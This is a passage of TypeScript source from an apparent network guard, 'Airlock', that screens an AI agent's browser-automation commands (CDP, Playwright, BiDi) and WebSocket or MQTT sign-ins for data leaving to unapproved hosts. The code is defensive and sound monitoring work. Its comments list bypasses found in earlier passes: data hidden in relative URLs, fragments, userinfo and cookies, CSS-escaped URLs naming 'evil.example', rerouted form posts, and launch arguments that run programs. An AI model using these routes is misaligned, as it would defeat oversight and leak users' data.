      return (groups as unknown[]).slice(0, 32).flatMap((g) => {
        const e = (g as { endpoints?: unknown } | null)?.endpoints;
        return Array.isArray(e) ? e.slice(0, 32).map((x) => (x as { url?: unknown } | null)?.url).filter((u): u is string => typeof u === 'string') : [];
      });
    }
    case 'content-security-policy': case 'content-security-policy-report-only':
      return [...v.matchAll(/(?:^|[;,])\s*report-uri\s+([^;,]*)/gi)].flatMap((m) => m[1]!.trim().split(/\s+/)).filter(Boolean).slice(0, 32);
    default: return [];
  }
}

/**
 * Whether a paused request is continued to a URL as a write of the agent's: a method other than a
 * read, or a body it gives (twenty-third pass: `Fetch.continueRequest {url, method: 'POST',
 * postData}`, Playwright's `route.continue`, BiDi's `network.continueRequest` were judged as the
 * GET of the URL, and the browser posted the agent's body there). Then judged as a POST whose body
 * is unseen, as code that sends one is.
 */
function continuesWrite(method: string, p: Record<string, unknown>, paused?: PausedWrites): boolean {
  if (!/^(?:Fetch\.continueRequest|Network\.continueInterceptedRequest|continue|fallback|network\.continueRequest)$/.test(method)) return false;
  const verb = typeof p.method === 'string' ? p.method.trim().toUpperCase() : '';
  if ((verb !== '' && !['GET', 'HEAD', 'OPTIONS'].includes(verb)) || nonEmpty(p.postData) || nonEmpty(p.body)) return true;
  // The paused request's own method and body go on with it unless the command replaces both
  // (twenty-fifth pass: a page's form POST paused and continued to `https://docs.example/api/notes`
  // was judged as a GET there, and posted the page's fields to a host that takes only reads). The
  // browser said what it paused (`Fetch.requestPaused`, `Network.requestIntercepted`, BiDi's
  // `network.beforeRequestSent`); one it never said is no read known.
  if (!paused || method === 'continue' || method === 'fallback') return false;
  const id = [p.requestId, p.interceptionId, p.request].find((v): v is string => typeof v === 'string');
  const replaced = verb !== '' && (p.postData === '' || (p.body as { value?: unknown } | null | undefined)?.value === '');
  return !replaced && (id === undefined || paused(id));
}

/** Whether the browser paused the request of this id with a write (a method that writes, or a body); true for an id it never paused. */
export type PausedWrites = (id: string) => boolean;

export function cdpLoadsOf(text: string, paused?: PausedWrites): { urls: string[]; writes?: string[]; refused?: string } {
  const urls: string[] = [];
  const writes: string[] = [];
  let refused: string | undefined;
  const visit = (m: unknown, depth: number): void => {
    if (refused || !m || typeof m !== 'object' || Array.isArray(m) || depth > 4) return;
    const { method, params, guid } = m as { method?: unknown; params?: unknown; guid?: unknown };
    if (typeof guid === 'string' && typeof method === 'string' && params && typeof params === 'object') {
      // A CDP session Playwright opens for the agent (`context.newCDPSession(page)`): its `send`
      // carries a CDP command, read as one.
      const inner = params as { method?: unknown; params?: unknown };
      if (method === 'send' && typeof inner.method === 'string') return void visit({ method: inner.method, params: inner.params ?? {} }, depth + 1);
      return void playwright(method, params as Record<string, unknown>);
    }
    if (typeof method === 'string' && bidiMethod.test(method) && params && typeof params === 'object') return void bidi(method, params as Record<string, unknown>);
    // chromedriver's BiDi extension `goog:cdp.sendCommand {method, params}` carries a CDP command.
    if (typeof method === 'string' && /^goog:cdp\.send(?:Command)?$/.test(method) && params && typeof params === 'object') {
      const inner = params as { method?: unknown; params?: unknown };
      if (typeof inner.method === 'string') visit({ method: inner.method, params: inner.params ?? {} }, depth + 1);
      return;
    }
    if (typeof method !== 'string' || !cdpMethod.test(method) || !params || typeof params !== 'object') return;
    refused ??= browserWideValues(method, params as Record<string, unknown>);
    if (method === 'Target.sendMessageToTarget') {
      const inner = (params as { message?: unknown }).message;
      if (typeof inner === 'string') readings(inner).forEach((r) => visit(r, depth + 1));
      return;
    }
    if (method === 'Runtime.callFunctionOn') remoteCalled(method, params as Record<string, unknown>, typeof (params as { objectId?: unknown }).objectId === 'string');
    for (const k of cdpCode[method] ?? []) {
      const v = (params as Record<string, unknown>)[k];
      if (v !== undefined) written(method, typeof v === 'string' ? functionRead(k, v, (params as { arguments?: unknown }).arguments) : JSON.stringify(v) ?? '');
    }
    for (const css of cdpStyles[method]?.(params as Record<string, unknown>) ?? []) if (typeof css === 'string') styled(method, css);
    for (const k of cdpEncoded[method] ?? []) {
      const v = (params as Record<string, unknown>)[k];
      // A binary answer (an image: NUL bytes) loads nothing, whatever URLs its metadata names (XMP's).
      const bytes = typeof v === 'string' ? Buffer.from(v, 'base64').toString('latin1') : '';
      if (k === 'binaryResponseHeaders' || !bytes.includes('\u0000')) written(method, bytes);
    }
    if (method === 'Fetch.fulfillRequest' || method === 'Fetch.continueResponse') {
      const q = params as { responseHeaders?: unknown; binaryResponseHeaders?: unknown; body?: unknown };
      const binary = typeof q.binaryResponseHeaders === 'string' ? Buffer.from(q.binaryResponseHeaders, 'base64').toString('latin1').split('\u0000') : [];
      const pairs = [...headerPairs(q.responseHeaders), ...binary.flatMap((x, i) => (i % 2 === 0 ? [[x, binary[i + 1]] as [string, unknown]] : []))];
      answered(method, pairs, typeof q.body === 'string' ? Buffer.from(q.body, 'base64').toString('latin1') : '');
    }
    if (method === 'Network.continueInterceptedRequest' && typeof (params as { rawResponse?: unknown }).rawResponse === 'string') {
      const raw = Buffer.from((params as { rawResponse: string }).rawResponse, 'base64').toString('latin1');
      const cut = raw.search(/\r?\n\r?\n/);
      const head = cut < 0 ? raw : raw.slice(0, cut);
      answered(method, head.split(/\r?\n/).slice(1, 200).map((l) => [l.slice(0, Math.max(0, l.indexOf(':'))), l.slice(l.indexOf(':') + 1).trim()] as [string, unknown]), cut < 0 ? '' : raw.slice(cut).replace(/^\r?\n\r?\n/, ''));
    }
    if ((cdpCode[method] || cdpEncoded[method]) && !cdpLoads[method]) return;
    if (method in cdpStateFor) {
      for (const site of cdpStateFor[method]!(params as Record<string, unknown>).slice(0, 64)) wholeSite(method, site);
      return;
    }
    // What a drag drops on a page (twenty-fourth pass): a URL list the page does not handle is a
    // navigation there (Blink's drop of a link), markup dropped into an editable region is parsed.
    if (method === 'Input.dispatchDragEvent') {
      const items = (params as { data?: { items?: unknown } }).data?.items;
      for (const it of (Array.isArray(items) ? items : []).slice(0, 32)) {
        const { mimeType, data } = (it ?? {}) as { mimeType?: unknown; data?: unknown };
        if (typeof mimeType !== 'string' || typeof data !== 'string') continue;
        if (/uri-list|x-moz-url|^\s*url\s*$/i.test(mimeType)) for (const line of data.split(/\r?\n/).filter((l) => l.trim() && !l.startsWith('#')).slice(0, 16)) load(method, line);
        else if (/html|xml|svg/i.test(mimeType)) parsed(method, data);
      }
      return;
    }
    const markup = cdpMarkup[method];
    if (markup) {
      const v = (params as Record<string, unknown>)[markup];
      if (typeof v !== 'string') return;
      return void parsed(method, v);
    }
    const key = cdpLoads[method];
    const value = key === undefined ? undefined : (params as Record<string, unknown>)[key];
    if (typeof value !== 'string') return;
    if (method === 'DOM.setAttributeValue') return void attributes(method, [[String((params as { name?: unknown }).name ?? ''), value]]);
    if (method !== 'DOM.setAttributesAsText') return void load(method, value, continuesWrite(method, params as Record<string, unknown>, paused));
    // `name="value"` pairs as the HTML parser reads them (`<img src=… onerror=…>` set as text).
    attributes(method, [...value.matchAll(/([^\s"'>\/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)].map((m): [string, string] => [m[1]!, m[2] ?? m[3] ?? m[4] ?? '']));
  };
  // Attributes given together (an element's, or markup's): a form made to post (`method` or
  // `formmethod` of a write; twenty-third pass: `<form method=post action=…>` was judged as the GET
  // of its action, and a submission the tunnel does not see (Enter, a click) posted its fields)
  // has its `action`/`formaction` URLs judged as writes; with none of its own it posts where the
  // page's form says, which is not known here.
  // Twenty-fourth pass: an `action` or `formaction` set alone on an element of the page's (or in
  // markup holding no form: a button's `formaction` inside the page's form) submits by the method
  // the page's form says, which is not known here: it is judged as a write unless a read's method is
  // given with it (`DOM.setAttributeValue {name: 'action'}` on a form that posts went on as a GET).
  // `owner`: one element of the page's attributes (its `method` counts), markup whose form owns its
  // controls (a form's default method is GET), or markup whose controls belong to the page's form
  // (only a control's own `formmethod` counts).
  const attributes = (method: string, pairs: Array<[string, string]>, owner: 'element' | 'form' | 'page' = 'element'): void => {
    const given = pairs.filter(([n]) => (owner === 'page' ? /^formmethod$/i : /^(?:form)?method$/i).test(n.trim()));
    const reads = given.some(([, v]) => /^(?:get|dialog)?$/i.test(v.trim()));
    const posts = pairs.some(([n, v]) => /^(?:form)?method$/i.test(n.trim()) && /^\s*(?:post|put|patch|delete)\b/i.test(v)) ||
      (owner !== 'form' && !reads && pairs.some(([n, v]) => /^(?:form)?action$/i.test(n.trim()) && v.trim() !== ''));
    if (posts && !pairs.some(([n, v]) => /^(?:form)?action$/i.test(n.trim()) && v.trim() !== '')) refused ??= `${method} makes a form post where the page's form says: where it goes is not known here`;
    for (const [n, v] of pairs) attribute(method, n, v, posts);
  };
  // An attribute loads what it names only if it is one that names a URL; a relative one stays on the
  // page's own site (whose load was decided), as URL parsers read it (tabs and newlines dropped, `//`
  // and `\\` keeping the page's scheme). A style's `url(…)` loads too. An event handler or an
  // iframe's `srcdoc` is code or markup the browser runs: not read.
  // Twenty-second pass: a URL relative to the page is refused, as code's is (`computedLoad`): the
  // page may be one a served link reached, whose host takes that exact link only (`src="/c?d=…"`
  // went on while `fetch('/c?d=' + d)` was refused); a style is read as a style sheet (`styled`).
  const attribute = (method: string, name: string, value: string, posts = false): void => {
    const n = name.toLowerCase();
    if (/^on/.test(n) || n === 'srcdoc') refused = `${method} sets ${n}: code or markup the browser runs is not read`;
    if (n === 'style') return void styled(method, value);
    if (!URL_ATTRIBUTES.has(n)) return;
    const parts = attributeUrls(n, value);
    if (parts.length > 32) refused ??= `${method} sets ${n} to more than 32 URLs: more than Airlock decides in one command`;
    for (const v of parts.slice(0, 32)) {
      if (relativeUrl(v)) refused ??= `${method} sets ${n} to a URL relative to the page: where it goes is not known here`;
      else if (/^[\\/]{2}/.test(v)) load(method, `https:${v}`, posts && (n === 'action' || n === 'formaction'));
      else if (/^[a-z][a-z0-9+.-]*:/i.test(v)) load(method, v, posts && (n === 'action' || n === 'formaction'));
    }
  };
  // A style sheet, a style attribute or a `<style>` element's text: the URLs it names, CSS escapes
  // undone (`u\72l(\68ttps\3a\2f\2f evil\2e example)`, twenty-second pass), each a load; one
  // relative to the page refuses the command.
  const styled = (method: string, css: string): void => {
    const found = codeUrls(css).filter((u) => !namespaceNames.has(u));
    if (found.length > MAX_CODE_URLS) refused = `${method} names more than ${MAX_CODE_URLS} URLs: more than Airlock decides in one command`;
    for (const u of found.slice(0, MAX_CODE_URLS + 1)) load(method, u.replace(/^ws(s?):/i, 'http$1:'));
    if (styleLoadsRelative(css)) refused ??= `${method} gives the page a style loading a URL relative to it: where it goes is not known here`;
  };
  // An answer made up for an intercepted request is the page at that request's URL (a served link's,
  // perhaps): its markup or style sheet is read as the page's, and a `Location` relative to it
  // refuses the command (twenty-second pass: `<img src="/c?d=…">` in a fulfilled page).
  const answered = (method: string, headers: Array<[string, unknown]>, body: string): void => {
    for (const [k, v] of headers.slice(0, 200)) {
      if (typeof v !== 'string') continue;
      const name = k.trim().toLowerCase();
      // A cookie stored for the answer's site (twenty-third pass): which site that is, the request
      // paused is not known here, and the cookie rides with every later request there (a served
      // link's host: the attacker's), as a cookie command's would (`wholeSite`).
      if (name === 'set-cookie' && v.trim() !== '') refused ??= `${method} answers with a cookie: the site it is stored for is not known here, and every later request there carries it`;
      const targets = answerHeaderUrls(name, v);
      if (targets.some(relativeUrl)) refused ??= `${method} answers with a ${name} relative to the page: where it goes is not known here`;
    }
    if (body.includes('\u0000')) return; // binary (an image) loads nothing
    const type = headers.find(([k]) => /^\s*content-type\s*$/i.test(k))?.[1];
    if (typeof type === 'string' && /css/i.test(type)) styled(method, body);
    else if (/^\s*</.test(body.replace(/^(?:\ufeff|\xef\xbb\xbf)/, '')) || (typeof type === 'string' && /html|xml|svg/i.test(type))) parsed(method, body);
  };
  // Markup the browser parses: each attribute, each `<style>` element as a style sheet, each refresh
  // as the navigation it is, and the whole text as code is read.
  const parsed = (method: string, html: string): void => {
    const parts = markupParts(html);
    if (parts.more) refused ??= `${method} gives markup of more than 1,000 attributes: more than Airlock decides in one command`;
    // A form in the markup owns its controls, unless one names another by `form=` (the page's).
    attributes(method, parts.attributes, /<form[\s>\/]/i.test(html) && !parts.attributes.some(([n]) => n.trim().toLowerCase() === 'form') ? 'form' : 'page');
    for (const css of parts.styles.slice(0, 1000)) styled(method, css);
    for (const url of parts.refreshes) attribute(method, 'href', url);
    written(method, parts.text);
  };
  // Playwright's own protocol (`browserType.connect(wsEndpoint)` to `playwright run-server`,
  // Browserless, a cloud grid: `{id, guid, method, params}`), read as the CDP commands it becomes.
  const playwright = (method: string, p: Record<string, unknown>): void => {
    const str = (v: unknown): string | undefined => (typeof v === 'string' ? v : undefined);
    // A context made with headers, a user agent, a locale or credentials for every request.
    refused ??= browserWideValues(method, p) ?? browserWideValues('setExtraHTTPHeaders', { headers: p.extraHTTPHeaders }) ??
      browserWideValues('Emulation.setUserAgentOverride', { userAgent: p.userAgent, acceptLanguage: p.locale }) ?? browserWideValues('setHTTPCredentials', { httpCredentials: p.httpCredentials });
    // The server resolves a relative URL against the context's `baseURL` (judged when the context
    // was made): one that keeps its host stays there; `//host/…` leaves it.
    const go = (what: string, v: string, sends = false): void => {
      const t = v.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+/, '');
      if (/^[\\/]{2}/.test(t)) load(what, `https:${t}`, sends);
      else if (/^[a-z][a-z0-9+.-]*:/i.test(t)) load(what, t, sends);
    };
    for (const k of playwrightLoads[method] ?? []) {
      const v = str(p[k]);
      if (v !== undefined) go(`Playwright ${method}`, v, continuesWrite(method, p));
    }
    for (const k of playwrightCode[method] ?? []) {
      const v = p[k];
      if (v === undefined) continue;
      // A fulfilled body in base64 (`isBase64`) is read decoded, unless binary (an image loads nothing).
      const text = k === 'body' && p.isBase64 === true && typeof v === 'string' ? Buffer.from(v, 'base64').toString('latin1') : typeof v === 'string' ? v : JSON.stringify(v) ?? '';
      if (!(k === 'body' && text.includes('\u0000'))) written(`Playwright ${method}`, text);
    }
    if (method === 'setContent' && typeof p.html === 'string') parsed('Playwright setContent', p.html);
    if (method === 'fulfill') answered('Playwright fulfill', headerPairs(p.headers), typeof p.body === 'string' ? (p.isBase64 === true ? Buffer.from(p.body, 'base64').toString('latin1') : p.body) : '');
    if (method === 'addStyleTag' && typeof p.content === 'string') styled('Playwright addStyleTag', p.content);
    // A context or request context made with a proxy, a base URL, cookies or storage for sites.
    const proxy = (p.proxy && typeof p.proxy === 'object' ? p.proxy : {}) as { server?: unknown };
    if (typeof proxy.server === 'string') load(`Playwright ${method} proxy`, proxy.server);
    // A base URL stands for every URL of its origin: the relative ones the context's later `goto`
    // and `fetch` name resolve there (`/c?d=<data>` on a served link's host, which takes that exact
    // link only: twenty-second pass). So it is judged as itself and as a URL of its origin no link
    // serves (`https://host/*`): an allowed host's, or none.
    if (typeof p.baseURL === 'string') wholeSite(`Playwright ${method} baseURL`, p.baseURL);
    const state = (p.storageState && typeof p.storageState === 'object' ? p.storageState : {}) as { cookies?: unknown; origins?: unknown };
    for (const site of [...cookieSites(method === 'addCookies' ? p.cookies : state.cookies), ...(Array.isArray(state.origins) ? state.origins : []).map((o) => str((o as { origin?: unknown } | null)?.origin)).filter((o): o is string => !!o)].slice(0, 64)) wholeSite(`Playwright ${method}`, site);
    launched(`Playwright ${method}`, p);
    // A request the Playwright server sends itself (`context.request`, `page.request`): a GET or
    // HEAD is judged as the agent's; another method, whose body Airlock would not see, closes the tunnel.
    if (method === 'fetch' && typeof p.url === 'string') {
      const verb = (str(p.method) ?? 'GET').toUpperCase();
      if (verb !== 'GET' && verb !== 'HEAD') refused = `Playwright fetch with ${verb}: a request the browser's server sends is decided only as a GET`;
      else go('Playwright fetch', withParams(p.url, p.encodedParams, p.params));
    }
  };
  // WebDriver BiDi (Selenium 4, Firefox, chromedriver's `webSocketUrl`: `module.command` in lower
  // case), read as the CDP commands it becomes.
  const bidi = (method: string, p: Record<string, unknown>): void => {
    const what = `BiDi ${method}`;
    refused ??= browserWideValues(method, p);
    if (method === 'browsingContext.navigate' || method === 'network.continueRequest') {
      if (typeof p.url === 'string') load(what, p.url, continuesWrite(method, p, paused));
    }
    if (method === 'script.callFunction') remoteCalled(what, p, !!p.this && typeof p.this === 'object' && ['handle', 'sharedId'].some((k) => typeof (p.this as Record<string, unknown>)[k] === 'string'));
    for (const k of bidiCode[method] ?? []) if (p[k] !== undefined) written(what, typeof p[k] === 'string' ? functionRead(k, p[k] as string, p.arguments) : JSON.stringify(p[k]) ?? '');
    // An answer made up for an intercepted request: its body a string or base64 value.
    const body = (p.body && typeof p.body === 'object' ? p.body : {}) as { type?: unknown; value?: unknown };
    if (method === 'network.provideResponse' && typeof body.value === 'string') {
      const text = body.type === 'base64' ? Buffer.from(body.value, 'base64').toString('latin1') : body.value;
      if (!text.includes('\u0000')) written(what, text);
    }
    if (method === 'network.provideResponse') answered(what, headerPairs(p.headers), typeof body.value === 'string' ? (body.type === 'base64' ? Buffer.from(body.value, 'base64').toString('latin1') : body.value) : '');
    // A response continued with headers of the agent's is read as a made-up answer's are, and its
    // `cookies` are `Set-Cookie` headers (twenty-third pass: BiDi's `network.continueResponse` went on).
    if (method === 'network.continueResponse') answered(what, headerPairs(p.headers), '');
    if ((method === 'network.provideResponse' || method === 'network.continueResponse') && nonEmpty(p.cookies)) refused ??= `${what} answers with a cookie: the site it is stored for is not known here, and every later request there carries it`;
    if (method === 'storage.setCookie') {
      const { cookie, partition } = p as { cookie?: { domain?: unknown }; partition?: { sourceOrigin?: unknown } };
      if (typeof cookie?.domain === 'string') wholeSite(what, `https://${cookie.domain.replace(/^\./, '')}/`);
      if (typeof partition?.sourceOrigin === 'string') wholeSite(what, partition.sourceOrigin);
    }
    // A proxy for a user context or the session (`host:port` values, a PAC file's URL).
    const proxies: unknown[] = [p.proxy, (p as { capabilities?: { alwaysMatch?: { proxy?: unknown } } }).capabilities?.alwaysMatch?.proxy];
    const first = (p as { capabilities?: { firstMatch?: unknown } }).capabilities?.firstMatch;
    if (Array.isArray(first)) for (const f of first.slice(0, 16)) proxies.push((f as { proxy?: unknown } | null)?.proxy);
    for (const x of proxies) {
      if (!x || typeof x !== 'object') continue;
      const c = x as Record<string, unknown>;
      for (const k of ['httpProxy', 'sslProxy', 'socksProxy']) if (typeof c[k] === 'string') load(`${what} ${k}`, /^[a-z][a-z0-9+.-]*:\/\//i.test(c[k] as string) ? c[k] as string : `http://${c[k] as string}/`);
      if (typeof c.proxyAutoconfigUrl === 'string') load(`${what} proxyAutoconfigUrl`, c.proxyAutoconfigUrl);
    }
    if (method === 'webExtension.install') refused = `${what}: an extension the browser runs is not read`;
    // A BiDi-only session (geckodriver's `/session` WebSocket) launches the browser with the
    // options its capabilities give (twenty-fourth pass: only their `proxy` was read).
    if (method === 'session.new') {
      const caps = (p.capabilities && typeof p.capabilities === 'object' ? p.capabilities : {}) as { alwaysMatch?: unknown; firstMatch?: unknown };
      for (const c of [caps.alwaysMatch, ...(Array.isArray(caps.firstMatch) ? caps.firstMatch.slice(0, 16) : [])]) {
        if (!c || typeof c !== 'object') continue;
        for (const k of ['goog:chromeOptions', 'ms:edgeOptions', 'moz:firefoxOptions']) {
          const o = (c as Record<string, unknown>)[k];
          if (o && typeof o === 'object') launched(`${what} ${k}`, o as Record<string, unknown>);
        }
      }
    }
  };
  // A browser launched with options of the agent's (Playwright's `launch`, a BiDi session's browser
  // options): arguments that send its traffic elsewhere or run a program (with one dash too, which
  // Chrome's switch parser takes on POSIX: twenty-fourth pass), a program, environment or
  // extensions of the agent's, and proxy preferences (Firefox's `network.proxy.http`) close the
  // tunnel or are loads; URLs among the arguments (opened at start) are read as code's are.
  const launched = (what: string, o: Record<string, unknown>): void => {
    if (Array.isArray(o.args) && o.args.some((a) => typeof a === 'string' && /^--?(?:proxy|host-resolver|host-rules|(?:renderer|utility|zygote|gpu|ppapi-plugin|plugin|nacl-loader)-(?:cmd-prefix|launcher)|browser-subprocess-path|load-extension)/i.test(a))) refused = `${what} with browser arguments that route its traffic or run a program`;
    if (nonEmpty(o.binary) || nonEmpty(o.executablePath) || nonEmpty(o.env) || nonEmpty(o.extensions)) refused = `${what} with a program, environment or extensions of the agent's: what it runs is not read`;
    const prefs = o.prefs && typeof o.prefs === 'object' ? Object.entries(o.prefs as Record<string, unknown>).slice(0, 1000) : [];
    for (const [k, v] of prefs) if (/proxy/i.test(k) && !/no_proxies|type|port|share/i.test(k) && typeof v === 'string' && v.trim()) load(`${what} ${k}`, /^[a-z][a-z0-9+.-]*:\/\//i.test(v) ? v : `http://${v.trim()}/`);
    if (Array.isArray(o.args)) written(what, JSON.stringify(o.args));
  };
  // A function given remote objects that calls one, or stores one on the global object (`callsRemoteObject`).
  const remoteCalled = (method: string, p: Record<string, unknown>, hasThis: boolean): void => {
    const why = typeof p.functionDeclaration === 'string' ? callsRemoteObject(withoutSourcePragma(p.functionDeclaration), p.arguments, hasThis) : undefined;
    if (why) refused ??= `${method} ${why}`;
  };
  // Code or markup: each URL written in it (a WebSocket's judged as its http twin); a text naming
  // more than Airlock decides is refused whole.
  const written = (method: string, text: string): void => {
    const r = codeReadingOf(method, text);
    // The refusals that replace an earlier one, then the first found (codeReading's order).
    refused = r.sendsNowhere ?? r.tooMany ?? refused ?? r.unknown;
    for (const u of r.found) load(method, u.replace(/^ws(s?):/i, 'http$1:'), r.sends);
  };
  // What stands for every URL of a site (twenty-second pass): a base URL the relative URLs after it
  // resolve against, a cookie or storage entry carrying data the site's every request or script
  // gets, a push delivered to its service worker. Judged as itself and as a URL of its origin no
  // link serves (`https://host/*`): an allowed host's goes on, a served link's does not (its root
  // served as a link let a cookie of data ride to that host).
  const wholeSite = (method: string, value: string): void => {
    load(method, value);
    let origin: string | undefined;
    try {
      origin = new URL(value.trim()).origin;
    } catch {
      return; // refused by the load above
    }
    if (origin && origin !== 'null') load(`${method} (any URL of its site)`, `${origin}/*`);
  };
  const load = (method: string, value: string, sends = false): void => {
    let u: URL;
    try {
      u = new URL(value.trim());
    } catch {
      refused = `${method} to a URL that does not parse: where the browser goes is not known`;
      return;
    }
    if (u.protocol === 'http:' || u.protocol === 'https:') {
      (sends ? writes : urls).push(u.href);
      // A fragment never reaches the server, so the URL judged drops it, but the page's own code
      // reads it (`location.hash`) and sends it where it likes (twenty-second pass: a served link
      // with `#<data>` added was that link): data for any URL of the site.
      if (u.hash.length > 1) urls.push(`${u.origin}/*`);
      // So is userinfo (twenty-fifth pass: `Page.navigate {url: 'https://<data>@<a served link>'}`
      // was that link, the judged URL dropping it as a request's does): the browser answers the
      // host's `401` with it as Basic credentials, and its own requests never pass here.
      if (u.username || u.password) urls.push(`${u.origin}/*`);
    }
    else if (u.protocol !== 'about:') refused = `${method} to a ${u.protocol} URL: what it runs or renders is not read`;
  };
  for (const r of readings(text)) visit(r, 0);
  // Each distinct URL is decided; a message naming more than are decided is refused (the 17th
  // candidate of a `srcset` after sixteen allowed ones was relayed undecided).
  const distinct = [...new Set(urls)];
  const sent = [...new Set(writes)];
  if (!refused && distinct.length + sent.length > MAX_CDP_LOADS) refused = `a command naming ${distinct.length + sent.length} URLs for the browser to load: more than Airlock decides in one message (${MAX_CDP_LOADS})`;
  return { urls: distinct, ...(sent.length ? { writes: sent } : {}), ...(refused ? { refused } : {}) };
}

/**
 * Field names a WebSocket protocol's own sign-in message carries its credential under, beside the
 * body fields HTTP reads (`credentialFieldName`: `token`, `access_token`, `auth`, `password` …):
 * Firebase's `cred`, a JWT named as such, `credentials`.
 */
const tunnelCredentialNames: ReadonlySet<string> = new Set(['jwt', 'cred', 'credential', 'credentials', 'signature', 'authkey', 'sessionkey', 'apikeysecret', 'passcode']);
/** A header line of a text protocol's frame (STOMP's `CONNECT` with `passcode:`, `Authorization:`): name, then `:` or `=`, then 4+ characters. */
const headerLine = /^[ \t]{0,8}([A-Za-z][A-Za-z0-9_.-]{0,39})[ \t]{0,8}[:=][ \t]{0,8}[^\s]{4}/gm;
/** A member `"name": "value` in any framing (Socket.IO's `40{…}`, a JSON string inside JSON with its quotes escaped). */
const memberText = /\\?"([A-Za-z][A-Za-z0-9_.-]{0,39})\\?"\s{0,8}:\s{0,8}\\?"([^"\\]{8})/g;
/** Longest message read for a sign-in (a sign-in message is short). */
const MAX_CREDENTIAL_MESSAGE = 64 * 1024;

function signInName(name: string): boolean {
  return credentialFieldName(name) || tunnelCredentialNames.has(name.toLowerCase().replace(/[-_.]/g, ''));
}

/**
 * Whether a message the agent sends over a WebSocket gives the server a credential in its own
 * words (twenty-seventh pass): Home Assistant's `{"type": "auth", "access_token": …}`, a Supabase
 * Realtime or Phoenix `phx_join` with `access_token`, Socket.IO's `40{"token": …}`, Pusher's
 * `auth`, Firebase's `cred`, ActionCable's identifier holding a token. The socket then answers as
 * that account, as an HTTP read with `Authorization` does: its answers are the account's data. A
 * member whose name is a credential's and whose value is a string of 8 characters or more, in the
 * text as written (any framing) or, for a JSON message, as a parser reads it (escaped names, at any
 * depth, JSON held in a string, for messages of up to 64 KiB).
 */
export function signsIn(text: string): boolean {
  if (!/tok|auth|pass|secret|key|cred|jwt|sign|bearer|\\u/i.test(text)) return false;
  memberText.lastIndex = 0;
  for (let m = memberText.exec(text); m; m = memberText.exec(text)) if (signInName(m[1]!)) return true;
  headerLine.lastIndex = 0;
  for (let m = headerLine.exec(text); m; m = headerLine.exec(text)) if (signInName(m[1]!)) return true;
  // Parsed (escaped names, JSON held in a string) only while short: a sign-in message is.
  if (text.length > MAX_CREDENTIAL_MESSAGE || (!startsJson(text) && !/^[0-9]{1,4}[[{]/.test(text))) return false;
  let budget = 10_000;
  const visit = (v: unknown, depth: number): boolean => {
    if (--budget < 0 || depth > 16) return false;
    if (typeof v === 'string') return depth < 16 && (startsJson(v) ? readings(v).some((r) => visit(r, depth + 1)) : false);
    if (!v || typeof v !== 'object') return false;
    for (const [k, x] of Object.entries(v as Record<string, unknown>)) {
      if (typeof x === 'string' && x.length >= 8 && signInName(k)) return true;
      if (visit(x, depth + 1)) return true;
    }
    return false;
  };
  return readings(text.replace(/^[0-9]{1,4}(?=[[{])/, '')).some((r) => visit(r, 0));
}

/**
 * An MQTT CONNECT packet (MQTT over WebSocket, the `mqtt` subprotocol) whose flags say it carries a
 * user name or a password: the broker answers as that account (twenty-seventh pass). Fixed header
 * 0x10, the remaining length (1–4 bytes), then the protocol name `MQTT` (3.1.1, 5) or `MQIsdp` (3.1),
 * its level and the connect flags (0x80 user name, 0x40 password).
 */
export function mqttSignsIn(data: Buffer): boolean {
  if (data.length < 10 || data[0] !== 0x10) return false;
  let at = 1;
  while (at < 5 && at < data.length && (data[at]! & 0x80) !== 0) at++;
  at++;
  const name = data.length >= at + 2 ? data.readUInt16BE(at) : -1;
  if (name !== 4 && name !== 6) return false;
  const proto = data.subarray(at + 2, at + 2 + name).toString('latin1');
  if (proto !== 'MQTT' && proto !== 'MQIsdp') return false;
  const flags = data[at + 2 + name + 1];
  return flags !== undefined && (flags & 0xc0) !== 0;
}

/** A walk of one packed value: where it ends, whether a map in it holds a sign-in member. */
interface PackedWalk {
  b: Buffer;
  /** Values left to look at (bounds the walk). */
  budget: number;
  found: boolean;
  /** Collecting the strings and byte strings of the value (packedPayloads): each, and whether it is bytes. */
  strings?: Array<[Buffer, boolean]>;
}

/** A string or bytes value at `i` (MessagePack or CBOR): its text and where it ends, else undefined. */
type PackedText = { text?: string; bytes: number; end: number };

/** Reads one MessagePack value at `i`; returns where it ends (undefined: not MessagePack). */
function msgpackValue(w: PackedWalk, i: number, depth: number, text?: (t: PackedText) => void): number | undefined {
  const { b } = w;
  if (--w.budget < 0 || depth > 32 || i >= b.length) return undefined;
  const c = b[i]!;
  const sized = (n: number, at: number): number | undefined => (at + n <= b.length ? at + n : undefined);
  const u = (at: number, n: number): number | undefined => (at + n > b.length ? undefined : n === 1 ? b[at]! : n === 2 ? b.readUInt16BE(at) : b.readUInt32BE(at));
  const str = (len: number | undefined, at: number, isText: boolean): number | undefined => {
    if (len === undefined || at + len > b.length) return undefined;
    if (w.strings && len && w.strings.length < MAX_PACKED_STRINGS) w.strings.push([b.subarray(at, at + len), !isText]);
    text?.({ ...(isText ? { text: b.toString('latin1', at, at + len) } : {}), bytes: len, end: at + len });
    return at + len;
  };
  if (c <= 0x7f || c >= 0xe0 || c === 0xc0 || c === 0xc2 || c === 0xc3) return i + 1;
  if (c >= 0xa0 && c <= 0xbf) return str(c - 0xa0, i + 1, true);
  if (c === 0xd9 || c === 0xda || c === 0xdb) { const n = c === 0xd9 ? 1 : c === 0xda ? 2 : 4; return str(u(i + 1, n), i + 1 + n, true); }
  if (c === 0xc4 || c === 0xc5 || c === 0xc6) { const n = c === 0xc4 ? 1 : c === 0xc5 ? 2 : 4; return str(u(i + 1, n), i + 1 + n, false); }
  if (c === 0xca) return sized(5, i);
  if (c === 0xcb) return sized(9, i);
  if (c >= 0xcc && c <= 0xd3) return sized(1 + [1, 2, 4, 8][(c - 0xcc) % 4]!, i);
  if (c >= 0xd4 && c <= 0xd8) return sized(2 + [1, 2, 4, 8, 16][c - 0xd4]!, i);
  if (c === 0xc7 || c === 0xc8 || c === 0xc9) { const n = c === 0xc7 ? 1 : c === 0xc8 ? 2 : 4; const len = u(i + 1, n); return len === undefined ? undefined : sized(len + 1, i + 1 + n); }
  let count: number | undefined;
  let at: number;
  let map: boolean;
  if (c >= 0x80 && c <= 0x8f) [count, at, map] = [c - 0x80, i + 1, true];
  else if (c >= 0x90 && c <= 0x9f) [count, at, map] = [c - 0x90, i + 1, false];
  else if (c === 0xde || c === 0xdf) [count, at, map] = [u(i + 1, c === 0xde ? 2 : 4), i + (c === 0xde ? 3 : 5), true];
